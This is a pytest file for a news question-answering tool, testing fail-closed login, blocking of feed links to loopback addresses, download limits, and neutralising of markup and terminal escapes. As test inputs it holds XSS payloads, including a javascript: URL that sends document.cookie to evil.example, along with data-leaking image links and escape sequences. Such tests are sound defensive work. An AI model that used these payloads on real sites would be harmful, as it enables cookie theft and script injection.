"""Trust boundaries (issue 17): the login cannot fail open, feeds cannot reach inside, article text cannot become markup.

Everything an article or a feed says is data; only the articles folder and the feed URL a user
types are trusted. Each case runs the real thing: `newsqa serve` with an auth file, local HTTP
servers on 127.0.0.1 that drip, redirect, link to a loopback page or send too much, real index
runs and questions, the real export file, and a Markdown renderer over what the chat and the
export hold. The browser case (Markdown injection in the chat) is in `tests/test_ui_browser.py`.
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from index import ArticleLoader, update_index
from index.feeds import SKIPPED_LEDGER, fetch_feeds
from index.settings import FeedSettings, LimitSettings
from qa import Settings
from tests.conftest import ROOT, free_port, zoo_pipeline

PASSWORD_PAGE = (
    "<html><head><title>Admin</title></head><body><article><h1>Internal admin</h1>"
    "<p>The internal database password is hunter2-swordfish, and only the operations team may use it.</p>"
    "<p>The admin console lists every user account of the newsroom, with their roles and their last login.</p>"
    "</article></body></html>"
)


# ---------------------------------------------------------------- local HTTP servers


class Site:
    """A real HTTP server on 127.0.0.1 whose routes are functions; it counts the requests of each path."""

    def __init__(self) -> None:
        self.routes: dict[str, Callable[[BaseHTTPRequestHandler], None]] = {}
        self.hits: dict[str, int] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                path = self.path.split("?", 1)[0]
                site.hits[path] = site.hits.get(path, 0) + 1
                route = site.routes.get(path)
                if route is None:
                    self.send_error(404)
                    return
                with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # the client stopped reading: caps and timeouts
                    route(self)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.base = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def send(body: bytes, content_type: str = "text/html") -> Callable[[BaseHTTPRequestHandler], None]:
    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", content_type)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return route


def drip(body: bytes, every: float) -> Callable[[BaseHTTPRequestHandler], None]:
    """One byte every `every` seconds: each read gets data in time, the whole never does."""

    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/rss+xml")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        for byte in body:
            handler.wfile.write(bytes([byte]))
            handler.wfile.flush()
            time.sleep(every)

    return route


def endless(chunk: bytes, total: int) -> Callable[[BaseHTTPRequestHandler], None]:
    """`total` bytes with no Content-Length (the body ends when the connection closes): only a byte cap stops the reader early."""

    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html")
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.close_connection = True
        sent = 0
        while sent < total:
            handler.wfile.write(chunk)
            sent += len(chunk)

    return route


def redirect(to: str) -> Callable[[BaseHTTPRequestHandler], None]:
    def route(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(302)
        handler.send_header("Location", to)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    return route


@pytest.fixture
def site() -> Iterator[Site]:
    server = Site()
    yield server
    server.close()


@pytest.fixture
def internal() -> Iterator[Site]:
    """An 'internal' service on another port of this machine, holding a secret."""
    server = Site()
    server.routes["/admin/users"] = send(PASSWORD_PAGE.encode())
    yield server
    server.close()


def rss(*items: str, title: str = "Harbour Gazette") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://example.com/</link>{''.join(items)}</channel></rss>"
    ).encode()


def item(guid: str, title: str, *, link: str = "", summary: str = "", date: str = "Fri, 14 Feb 2025 09:00:00 GMT") -> str:
    parts = [f"<title>{title}</title>", f"<guid>{guid}</guid>", f"<pubDate>{date}</pubDate>" if date else ""]
    parts += [f"<link>{link}</link>" if link else "", f"<description>{summary}</description>" if summary else ""]
    return f"<item>{''.join(parts)}</item>"


def feed_settings(tmp_path: Path, **feeds: object) -> Settings:
    (tmp_path / "articles").mkdir(exist_ok=True)
    return Settings(articles_dir=tmp_path / "articles", db_dir=tmp_path / "db", feeds=FeedSettings(**feeds))


# ---------------------------------------------------------------- 1. the login cannot fail open


def newsqa(*args: str, timeout: float = 90, **env: str) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PYTHONPATH": str(ROOT), **env}
    return subprocess.run([sys.executable, "-m", "ui", *args], cwd=ROOT, env=environment, capture_output=True, text=True, timeout=timeout)


@pytest.mark.unit
def test_an_empty_or_malformed_login_refuses_to_start(tmp_path):
    empty, blank_first, no_colon = tmp_path / "empty", tmp_path / "blank", tmp_path / "nocolon"
    empty.write_text("")
    blank_first.write_text("\nalice:s3cret\n")
    no_colon.write_text("alice\n")
    port = str(free_port())
    env = {"NEWSQA_DB_DIR": str(tmp_path / "db"), "NEWSQA_ARTICLES_DIR": str(tmp_path)}
    cases = [
        (["--auth-file", str(empty)], {}, "is empty"),
        (["--auth-file", str(blank_first)], {}, "empty first line"),
        (["--auth-file", str(no_colon)], {}, "user:password"),
        (["--auth", ""], {}, "--auth is empty"),
        (["--auth", "alice:"], {}, "user:password"),
        ([], {"NEWSQA_UI_AUTH": ""}, "NEWSQA_UI_AUTH is empty"),
        ([], {"NEWSQA_UI_AUTH": "s3cretonly"}, "NEWSQA_UI_AUTH must look like user:password"),
    ]
    for args, extra, says in cases:
        run = newsqa("serve", "--port", port, *args, **env, **extra)  # fails open: serves, and the timeout fails the test
        assert run.returncode == 2, (args, extra, run.stderr)
        assert run.stderr.strip().count("\n") == 0, (args, run.stderr)
        assert says in run.stderr, (args, run.stderr)
        assert "s3cret" not in run.stderr  # a password is never echoed


@pytest.mark.integration
@pytest.mark.slow
def test_serve_with_an_auth_file_asks_for_the_login(tmp_path, embedder):
    import httpx
    from gradio_client import Client

    (tmp_path / "articles").mkdir()
    (tmp_path / "articles" / "zoo.txt").write_text("Zoo opens\n\nThe mayor opened the zoo on Monday. The zoo has 40 lions.")
    update_index(Settings(articles_dir=tmp_path / "articles", db_dir=tmp_path / "db"), embedder=embedder)
    auth = tmp_path / "auth"
    auth.write_text("alice:s3cret\n")
    port = free_port()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "NEWSQA_DB_DIR": str(tmp_path / "db"), "NEWSQA_ARTICLES_DIR": str(tmp_path / "articles")}
    command = [sys.executable, "-m", "ui", "serve", "--port", str(port), "--auth-file", str(auth)]
    server = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}/"
    try:
        started = time.monotonic()
        while True:
            assert server.poll() is None, server.stdout.read() if server.stdout else ""
            assert time.monotonic() - started < 180, "newsqa serve did not answer within 180 s"
            try:
                if httpx.get(url, timeout=2).status_code < 500:
                    break
            except httpx.HTTPError:
                time.sleep(0.5)
        call = httpx.post(url + "gradio_api/call/ask", json={"data": ["Who opened the zoo?"]}, timeout=30)
        assert call.status_code in (401, 403)
        with pytest.raises(Exception):  # noqa: B017 - gradio_client raises its own error type for a missing login
            Client(url, verbose=False).predict("Who opened the zoo?", api_name="/ask")
        answer = Client(url, auth=("alice", "s3cret"), verbose=False).predict("Who opened the zoo?", api_name="/ask")
        assert "mayor" in answer["citations"][0]["quote"]
    finally:
        server.send_signal(signal.SIGKILL)
        server.wait(timeout=30)


# ---------------------------------------------------------------- 3. feeds cannot reach inside


@pytest.mark.integration
@pytest.mark.slow
def test_feed_links_to_this_machine_are_not_followed_and_never_answered(tmp_path, site, internal, embedder):
    from qa import Pipeline

    secret = f"{internal.base}/admin/users"
    site.routes["/go"] = redirect(secret)  # a public-looking hop that redirects inside
    site.routes["/feed.xml"] = send(
        rss(
            item("direct", "Direct link inside", link=secret, summary="A note about the newsroom systems."),
            item("hop", "Redirect inside", link=f"http://localhost:{site.port}/go", summary="Another note about the systems."),
            item("ipv6", "Mapped address", link=f"http://[::ffff:127.0.0.1]:{internal.port}/admin/users", summary="A third note."),
        ),
        "application/rss+xml",
    )
    # the feed URL the user typed is trusted although it is on 127.0.0.1; "localhost" (the first hop) is allowed by name
    settings = feed_settings(tmp_path, allowed_private_hosts=["localhost"])
    report = fetch_feeds([f"{site.base}/feed.xml"], settings)
    assert report.failed_feeds == 0
    assert len(report.saved) == 3  # each saved with its summary
    assert internal.hits == {}, "a feed made newsqa request an internal page"
    assert site.hits.get("/go") == 1  # the allowed first hop was followed, its redirect inside was not
    blocked = [p for p in report.problems if "loopback address" in p]
    assert len(blocked) == 3
    assert all("NEWSQA_FEEDS__ALLOWED_PRIVATE_HOSTS" in p for p in blocked)

    update_index(settings, embedder=embedder)
    answer = Pipeline(settings, embedder=embedder).ask("What is the internal database password?")
    assert "hunter2" not in " ".join(c.passage for c in answer.citations) + answer.text


@pytest.mark.unit
def test_an_allowed_intranet_host_is_fetched(tmp_path, site, internal):
    site.routes["/feed.xml"] = send(rss(item("direct", "Intranet page", link=f"{internal.base}/admin/users", summary="A note.")))
    settings = feed_settings(tmp_path, allowed_private_hosts=["127.0.0.0/8"])
    report = fetch_feeds([f"{site.base}/feed.xml"], settings)
    assert internal.hits == {"/admin/users": 1}
    assert "hunter2" in (settings.articles_dir / report.saved[0]).read_text()


# ---------------------------------------------------------------- 4, 5. every download is bounded in time and bytes


@pytest.mark.unit
def test_a_slow_feed_and_a_slow_page_end_at_the_timeout(tmp_path, site):
    page = b"<html><body><p>" + b"slow " * 10 + b"</p></body></html>"
    site.routes["/slow-feed.xml"] = drip(rss(item("a", "A")), every=0.2)  # ~30 s in all
    site.routes["/slow-page"] = drip(page, every=0.2)
    site.routes["/feed.xml"] = send(rss(item("b", "Slow page", link=f"{site.base}/slow-page", summary="The summary of the story.")))
    settings = feed_settings(tmp_path, timeout_seconds=2, allowed_private_hosts=["127.0.0.1"])
    started = time.monotonic()
    report = fetch_feeds([f"{site.base}/slow-feed.xml", f"{site.base}/feed.xml"], settings)
    elapsed = time.monotonic() - started
    assert elapsed < 10, f"took {elapsed:.1f} s with a 2 s timeout per download"
    assert report.failed_feeds == 1
    assert "took longer than 2 s" in report.problems[0]
    assert len(report.saved) == 1
    assert any("slow-page" in p and "took longer than 2 s" in p for p in report.problems)
    assert "The summary of the story." in (settings.articles_dir / report.saved[0]).read_text()  # made do with the summary


def trickle_head(every: float) -> Callable[[BaseHTTPRequestHandler], None]:
    """The status line and headers one byte every `every` seconds (40 bytes, then the end of the headers and a body):
    each read gets data in time, and the head alone takes `40 * every` seconds."""

    def route(handler: BaseHTTPRequestHandler) -> None:
        head = b"HTTP/1.1 200 OK\r\nX-Padding: " + b"a" * 12 + b"\r\n"
        for byte in head[:40]:
            handler.wfile.write(bytes([byte]))
            handler.wfile.flush()
            time.sleep(every)
        body = rss(item("late", "Late", summary="Arrived after the deadline."))
        handler.wfile.write(head[40:] + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)

    return route


@pytest.mark.unit
def test_a_server_that_trickles_its_status_line_and_headers_is_cut_at_the_deadline(tmp_path, site):
    site.routes["/trickling-feed.xml"] = trickle_head(every=0.5)  # 20 s before the headers end
    site.routes["/trickling-page"] = trickle_head(every=0.5)
    site.routes["/feed.xml"] = send(
        rss(
            item("slow", "Slow page", link=f"{site.base}/trickling-page", summary="The summary of the slow story."),
            item("fine", "Fine", summary="A fine entry with its own text."),
        ),
        "application/rss+xml",
    )
    settings = feed_settings(tmp_path, timeout_seconds=1.5, allowed_private_hosts=["127.0.0.1"])
    started = time.monotonic()
    report = fetch_feeds([f"{site.base}/trickling-feed.xml", f"{site.base}/feed.xml"], settings)
    elapsed = time.monotonic() - started
    assert elapsed < 8, f"took {elapsed:.1f} s with a 1.5 s limit per download (a feed and one page)"
    assert report.failed_feeds == 1
    assert "trickling-feed.xml: could not be read (took longer than 1.5 s" in report.problems[0]
    assert any("trickling-page could not be read (took longer than 1.5 s" in p for p in report.problems)
    assert len(report.saved) == 2  # the slow page's entry with its summary, and the other entry: the rest go on
    texts = sorted((settings.articles_dir / saved).read_text() for saved in report.saved)
    assert any("The summary of the slow story." in text for text in texts)
    assert any("A fine entry with its own text." in text for text in texts)


@pytest.mark.unit
def test_a_resolver_that_never_answers_costs_each_download_no_more_than_the_deadline(tmp_path, site):
    links = [
        item(f"e{n}", f"Entry {n}", link=f"http://news-{n}.slow-dns.example/story", summary=f"Summary {n} of a story.") for n in range(3)
    ]
    site.routes["/feed.xml"] = send(rss(*links), "application/rss+xml")
    asked: list[str] = []
    release = threading.Event()

    def never_answers(host: str, port: int) -> list[str]:
        asked.append(host)
        release.wait(30)  # a resolver that does not answer (let go at the end of the test)
        raise OSError("no answer")

    settings = feed_settings(tmp_path, timeout_seconds=1)
    started = time.monotonic()
    try:
        report = fetch_feeds(["http://feeds.slow-dns.example/feed.xml", f"{site.base}/feed.xml"], settings, resolver=never_answers)
    finally:
        release.set()
    elapsed = time.monotonic() - started
    assert elapsed < 4 + 3, f"took {elapsed:.1f} s for four lookups with a 1 s limit each"
    assert asked == ["feeds.slow-dns.example", *(f"news-{n}.slow-dns.example" for n in range(3))]  # 127.0.0.1 needs no lookup
    assert report.failed_feeds == 1
    assert "resolving feeds.slow-dns.example took longer than 1 s" in report.problems[0]
    assert sum("took longer than 1 s" in p and "saved its summary" in p for p in report.problems) == 3
    assert len(report.saved) == 3  # each entry kept with its summary


@pytest.mark.unit
def test_a_partial_entry_left_by_a_dead_fetch_is_removed_by_the_next_one_and_never_indexed(tmp_path):
    settings = feed_settings(tmp_path)
    folder = settings.articles_dir / "feeds"
    folder.mkdir()
    half = "---\ntitle: Half an entry\nsource: Harbour Gazette\n---\nThe harbour master said the port would\n"
    stale, writing = folder / ".0123456789abcdef.md.part", folder / ".fedcba9876543210.md.part"
    stale.write_text(half)
    writing.write_text(half)  # another fetch's, being written now
    an_hour_ago = time.time() - 3600
    os.utime(stale, (an_hour_ago, an_hour_ago))
    (settings.articles_dir / "zoo.txt").write_text("Zoo opens\n\nThe mayor opened the zoo on Monday.")
    assert [a.id for a in ArticleLoader(settings.articles_dir).load().articles] == ["zoo.txt"]  # never read as an article
    feed = tmp_path / "feed.xml"
    feed.write_bytes(rss(item("storm", "Storm", summary="A storm closed the port of Dover on Friday.")))
    report = fetch_feeds([str(feed)], settings)
    assert report.stale_removed == ["feeds/.0123456789abcdef.md.part"]
    assert not stale.exists()
    assert writing.exists()
    assert len(report.saved) == 1
    assert sorted(a.id for a in ArticleLoader(settings.articles_dir).load().articles) == [report.saved[0], "zoo.txt"]


@pytest.mark.unit
def test_an_oversized_feed_and_page_are_cut_at_the_cap_and_the_entry_is_not_fetched_again(tmp_path, site):
    site.routes["/big-feed.xml"] = endless(b"<!-- " + b"x" * 65_000 + b" -->", 3_000_000)
    site.routes["/big-page"] = endless(b"<p>" + b"word " * 13_000 + b"</p>", 3_000_000)
    site.routes["/feed.xml"] = send(
        rss(
            item("big", "Huge page", link=f"{site.base}/big-page", summary="Short summary."),
            item("fine", "Fine", summary="A fine entry with its own text."),
        )
    )
    settings = feed_settings(tmp_path, max_feed_bytes=200_000, max_page_bytes=200_000, allowed_private_hosts=["127.0.0.1"])
    report = fetch_feeds([f"{site.base}/big-feed.xml", f"{site.base}/feed.xml"], settings)
    assert report.failed_feeds == 1
    assert "NEWSQA_FEEDS__MAX_FEED_BYTES" in report.problems[0]
    assert len(report.saved) == 1
    assert "Fine" in (settings.articles_dir / report.saved[0]).read_text()
    skipped = [p for p in report.problems if "Huge page" in p]
    assert skipped
    assert "NEWSQA_FEEDS__MAX_PAGE_BYTES" in skipped[0]
    assert "recorded as skipped" in skipped[0]
    [record] = [json.loads(line) for line in (settings.articles_dir / "feeds" / SKIPPED_LEDGER).read_text().splitlines()]
    assert record["link"] == f"{site.base}/big-page"
    assert "MAX_PAGE_BYTES" in record["reason"]

    again = fetch_feeds([f"{site.base}/feed.xml"], settings)
    assert (again.saved, again.known) == ([], 2)
    assert site.hits["/big-page"] == 1  # seen and skipped: not downloaded again
    assert len(ArticleLoader(settings.articles_dir).load().articles) == 1  # the ledger is no article


# ---------------------------------------------------------------- 6. nothing reaches the terminal raw


@pytest.mark.unit
def test_fetch_and_watch_print_no_terminal_escapes(tmp_path):
    feed = tmp_path / "feed.xml"
    feed.write_bytes(rss(item("x", "\x1b]0;PWNED\x07Storm\x1b[2J", date=""), title="\x1b]0;PWNED\x07Gazette"))
    articles = tmp_path / "articles"
    articles.mkdir()
    env = {"NEWSQA_DB_DIR": str(tmp_path / "db"), "NEWSQA_ARTICLES_DIR": str(articles)}
    fetched = newsqa("fetch", str(feed), **env)
    assert "Storm" in fetched.stderr  # the entry's problem, with its title, was printed ...
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", fetched.stdout + fetched.stderr)  # ... without a control character

    (articles / "evil\x1b]0;X\x07.txt").write_text("")  # empty: skipped, and named in the sync report
    (articles / "zoo.txt").write_text("Zoo opens\n\nThe mayor opened the zoo on Monday.")  # so that the sync succeeds
    environment = {**os.environ, "PYTHONPATH": str(ROOT), **env}
    watcher = subprocess.Popen(
        [sys.executable, "-m", "ui", "watch"], cwd=ROOT, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    try:
        output = b""
        started = time.monotonic()
        assert watcher.stdout is not None
        os.set_blocking(watcher.stdout.fileno(), False)
        while b"skipped evil" not in output:
            assert time.monotonic() - started < 120, output
            output += watcher.stdout.read() or b""
            time.sleep(0.2)
    finally:
        watcher.send_signal(signal.SIGKILL)
        watcher.wait(timeout=30)
    assert b"skipped evil.txt: is empty" in output
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", output)


# ---------------------------------------------------------------- 2, 7. article text cannot become markup


HOSTILE_URL = "https://example.com/b\n\n<img\tsrc=x\tonerror=alert`1`>"
JAVASCRIPT_URL = "https://example.com/c\n\n[Source](javascript:location='https://evil.example/?'+document.cookie"


@pytest.mark.unit
def test_urls_are_checked_once_at_load_time(tmp_path, caplog):
    folder = tmp_path / "articles"
    folder.mkdir()
    for name, url in [
        ("img", HOSTILE_URL),
        ("js", JAVASCRIPT_URL),
        ("scheme", "javascript:alert(1)"),
        ("ok", "https://example.com/a?b=(1)"),
    ]:
        (folder / f"{name}.json").write_text(json.dumps({"title": name, "text": "The mayor opened the zoo.", "url": url}))
    with caplog.at_level("WARNING", logger="newsqa"):
        urls = {a.id: a.url for a in ArticleLoader(folder, limits=LimitSettings()).load().articles}
    assert urls == {"img.json": "", "js.json": "", "scheme.json": "", "ok.json": "https://example.com/a?b=(1)"}
    warned = " ".join(r.getMessage() for r in caplog.records)
    assert "img.json: its url holds whitespace" in warned
    assert "scheme.json: its url is not an http(s) address" in warned


def markdown_html(text: str) -> str:
    """What a CommonMark renderer that allows raw HTML (as Gradio's chat and most Markdown viewers do) makes of `text`."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("strikethrough").enable("table").render(text)


class Tags(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


CHAT_TAGS = {"div", "span", "b", "strong", "mark", "br", "a", "details", "summary"}
EXPORT_TAGS = {"h1", "h2", "p", "strong", "em", "ol", "ul", "li", "blockquote", "a"}


def assert_no_live_markup(markup: str, allowed: set[str], url: str) -> None:
    """Only the page's own tags, no event handler, source or style; a link only to the article's own `url` ("" for none)."""
    from urllib.parse import unquote, urlsplit

    for tag, attrs in Tags(markup).found:
        assert tag in allowed, (tag, attrs, markup)
        assert not any(name.startswith("on") or name in ("src", "style", "srcset") for name in attrs), (tag, attrs)
        if tag == "a":
            href = attrs.get("href") or ""
            assert url, (href, url)
            assert urlsplit(unquote(href))[2:] == urlsplit(unquote(url))[2:], (href, url)  # the host may be punycoded


@pytest.fixture(scope="module")
def trust_pipeline(tmp_path_factory, embedder):
    """A real index holding one steady article, into which each case drops a hostile one."""
    return zoo_pipeline(tmp_path_factory.mktemp("trust"), embedder)


def cited_export_chat_and_cli(pipeline, question: str) -> tuple[object, str, str, list[str]]:
    """Ask, then what the chat shows, what Export writes (a real file), and what `newsqa ask` prints."""
    from ui.app import article_texts, export_file
    from ui.cli import answer_lines
    from ui.render import render_answer

    answer = pipeline.ask(question)
    chat = render_answer(answer, articles=article_texts(pipeline, answer))
    exported = Path(export_file([answer.to_dict()]) or "").read_text(encoding="utf-8")
    return answer, chat, exported, answer_lines(answer)


@pytest.mark.integration
@pytest.mark.slow
def test_an_article_that_writes_markup_gets_none_in_chat_export_or_terminal(trust_pipeline):
    pipeline, folder = trust_pipeline
    body = (
        "The zoo keeper said the lions were calm ![p](http://127.0.0.1:7952/pixel.png?leak=x) on Friday.\r\r"
        "![p](http://127.0.0.1:7952/pixel.png?leak=y) "
        "[click](https://evil.example/phish)\r\rThe keeper said the zoo keeper fed them <img src=x onerror=alert(1)> twice."
    )
    record = {"title": "Keeper [t](javascript:alert(1))\n\n# Heading", "source": "Wire\u2028<b>AP</b>", "url": JAVASCRIPT_URL, "text": body}
    (folder / "keeper.json").write_text(json.dumps(record))
    update_index(pipeline.settings, store=pipeline.store)
    answer, chat, exported, lines = cited_export_chat_and_cli(pipeline, "What did the zoo keeper say about the lions?")
    assert any(c.article_id == "keeper.json" for c in answer.citations)
    for markup in (chat, markdown_html(chat)):  # as sent, and after Gradio's Markdown pass
        assert_no_live_markup(markup, CHAT_TAGS, "")
        assert "\n\n" not in chat
        assert "\r" not in chat
        assert "\u2028" not in chat
    rendered = markdown_html(exported)
    assert_no_live_markup(rendered, EXPORT_TAGS, "")
    assert "javascript:" not in rendered.replace("javascript:alert(1)", "") or "<a" not in rendered
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert "Keeper [t](javascript:alert(1)) # Heading (Wire <b>AP</b>)" in shown  # every character shown as itself
    assert all("\x1b" not in line and "\r" not in line and "\n" not in line for line in lines)


text_parts = st.sampled_from(
    [
        "\r", "\r\n", "\n\n", "\u2028", "\u2029", "\x85", "\x0b", "\x1b]0;X\x07", "\x1b[31m", "\u202e", "\u2066", "\u200f",
        "![i](http://127.0.0.1:9/p.png)", "[l](https://evil.example)", "[j](javascript:alert(1))", "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>", "<a href='javascript:x'>a</a>", "**b**", "_i_", "`c`", "~~s~~", "$$x$$", "# h", "> q",
        "1. l", "- l", "|t|t|", "---", "&lt;b&gt;", "&#60;i&#62;", "\\", "www.evil.example", "https://evil.example", "a@b.example",
        "http://x", "(", ")", "]", "[", "zoo ", "keeper ", ". ",
    ]
)  # fmt: skip
hostile_strings = st.lists(st.one_of(text_parts, st.characters(exclude_categories=("Cs",))), max_size=40).map("".join)


@pytest.mark.integration
@pytest.mark.slow
@hypothesis_settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    title=hostile_strings,
    outlet=hostile_strings,
    url=st.one_of(hostile_strings, hostile_strings.map("https://e.example/".__add__)),
    body=hostile_strings,
)
@example(title="\r", outlet="\r\r", url="https://e.example/&#60;i&#62;", body="1. l")  # found by this test: an entity in a url
def test_random_text_as_title_outlet_url_and_body_never_becomes_markup(trust_pipeline, title, outlet, url, body):
    from index.urls import is_web_url

    pipeline, folder = trust_pipeline
    record = {"title": title, "source": outlet, "url": url, "text": f"The zoo keeper said {body} about the zoo keeper."}
    (folder / "random.json").write_text(json.dumps(record))
    update_index(pipeline.settings, store=pipeline.store)
    [article] = [a for a in ArticleLoader(folder).load().articles if a.id == "random.json"] or [None]
    if article is None:  # skipped (no words): nothing of it can be shown
        return
    answer, chat, exported, lines = cited_export_chat_and_cli(pipeline, "What did the zoo keeper say?")
    if not any(c.article_id == "random.json" for c in answer.citations):
        return
    kept = article.url if is_web_url(article.url) else ""
    for markup in (chat, markdown_html(chat)):
        assert_no_live_markup(markup, CHAT_TAGS, kept)
    assert "\r" not in chat
    assert "\u2028" not in chat
    assert "\u2029" not in chat
    assert "\n" not in chat
    assert_no_live_markup(markdown_html(exported), EXPORT_TAGS, kept)
    for line in lines:
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", line), repr(line)


PISTORIUS_QUOTE = (
    "Pistorius told reporters he regretted what he called concessions made by the United States ahead of any potential "
    "negotiations, referencing comments Wednesday by U.S. Defense Secretary Pete Hegseth who said Ukraine keeping its "
    'pre-invasion boundaries is an "unrealistic objective."'
)
MARKUP_QUOTE = (
    "The keeper said ![p](http://127.0.0.1:7952/p.png?leak=x) and [click](https://evil.example) <img src=x onerror=alert(1)> "
    "was **loud**, &lt;b&gt; and `code` ~~gone~~ # not a heading, 5 * 3 = 15, snake_case, a@b.example."
)


def exported(question: str, *quotes: str, title: str = "Nato allies defense spending", outlet: str = "AP", url: str = "") -> str:
    """What Export writes for an answer quoting `quotes` (the real `Answer.to_markdown`, as `ui.app.export_file` writes it)."""
    from qa.models import Answer, Citation

    citations = [
        Citation(
            n=n, article_id="a.txt", title=title, source=outlet, url=url, chunk_id="a.txt-0000", quote=q, start=0, end=len(q), score=1.0
        )
        for n, q in enumerate(quotes, start=1)
    ]
    text = " ".join(f"{c.quote} [{c.n}]" for c in citations)
    return Answer(question=question, query=question, text=text, citations=citations, confidence=0.8).to_markdown()


def shown_text(markup: str) -> str:
    """The text a reader sees of rendered HTML."""
    return html.unescape(re.sub(r"<[^>]+>", "", markup))


@pytest.mark.unit
def test_the_export_reads_and_searches_as_text_and_renders_inert():
    raw = exported("What did Pistorius regret?", PISTORIUS_QUOTE, MARKUP_QUOTE)
    assert raw.count(PISTORIUS_QUOTE) == 2  # in the answer and in its source, word for word: searching the file finds it
    assert "## What did Pistorius regret?" in raw
    unescaped = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", raw)
    assert unescaped.count(MARKUP_QUOTE) == 2  # every character kept, a backslash added only before some punctuation ...
    escapes = raw.split("> The keeper said ", 1)[1].splitlines()[0].count("\\")
    assert escapes <= 16, raw  # ... only where markup could start (each link, image, tag, emphasis, entity, code, strike)
    for words in ("and [click", "was ", "snake_case", "5 * 3 = 15", "# not a heading", "(http://127.0.0.1:7952/p.png?leak=x)"):
        assert words in raw, words
    rendered = markdown_html(raw)
    assert_no_live_markup(rendered, {"h2", "p", "ol", "li", "blockquote"}, "")
    assert shown_text(rendered).count(MARKUP_QUOTE) == 2  # and a renderer shows every character as itself


@pytest.mark.unit
@hypothesis_settings(max_examples=300, deadline=None)
@given(question=hostile_strings, title=hostile_strings, outlet=hostile_strings, quote=hostile_strings, url=hostile_strings)
@example(question="x #", title="# h", outlet="a_", quote="1. l", url="")
@example(question="[j]: http://evil", title="[t](javascript:alert(1))", outlet="*", quote="---", url="https://e.example/a")
def test_any_text_in_the_export_renders_as_itself_and_never_as_markup(question, title, outlet, quote, url):
    from index.urls import is_web_url
    from qa.models import _one_line

    raw = exported(question or "q", quote or "q", title=title, outlet=outlet, url=url)
    rendered = markdown_html(raw)
    assert_no_live_markup(rendered, {"h2", "p", "ol", "li", "blockquote", "a", "strong", "em"}, url if is_web_url(url) else "")
    assert not re.search(r"<(em|strong|code|del|s|img|h1|h3|hr|pre|table)\b", rendered), rendered
    shown = shown_text(rendered)
    for field in (question, title, quote):
        assert _one_line(field) in shown, (field, raw, rendered)


# ---------------------------------------------------------------- the weak spots


@pytest.mark.unit
@pytest.mark.parametrize(
    ("command", "env", "says"),
    [
        (["watch"], {"NEWSQA_WATCH__DEBOUNCE_SECONDS": "1e308"}, "NEWSQA_WATCH__DEBOUNCE_SECONDS"),
        (["index"], {"NEWSQA_LLM__TIMEOUT_S": "1e308"}, "NEWSQA_LLM__TIMEOUT_S"),
        (["index"], {"NEWSQA_CHUNKING__CHUNK_OVERLAP": "5000"}, "must be less than NEWSQA_CHUNKING__CHUNK_SIZE"),
        (["fetch", "feed.xml", "--every", "99999999999999999999h"], {}, "from 1s to 168h"),
        (["index"], {"NEWSQA_FEEDS__ALLOWED_PRIVATE_HOSTS": '["http://intranet/"]'}, "is not a host name"),
    ],
)
def test_out_of_range_settings_are_one_line_not_a_traceback(tmp_path, command, env, says):
    run = newsqa(*command, NEWSQA_DB_DIR=str(tmp_path / "db"), NEWSQA_ARTICLES_DIR=str(tmp_path), **env)
    assert run.returncode == 2, run.stderr
    assert run.stderr.strip().count("\n") == 0, run.stderr
    assert says in run.stderr, run.stderr


@pytest.mark.unit
@pytest.mark.parametrize("typed", ["20250101", "2025-W01-1", "2025-001"])
def test_since_is_only_yyyy_mm_dd(typed):
    from index import BadQuestionError
    from qa.filters import filter_date

    with pytest.raises(BadQuestionError, match="YYYY-MM-DD"):
        filter_date(typed, name="since")


@pytest.mark.unit
def test_a_decomposed_outlet_name_finds_the_composed_one_and_back(tmp_path):
    from qa.filters import resolve_filters

    composed, decomposed = "Süddeutsche Zeitung", "Su\u0308ddeutsche Zeitung"
    for indexed, typed in ((composed, decomposed), (decomposed, composed)):
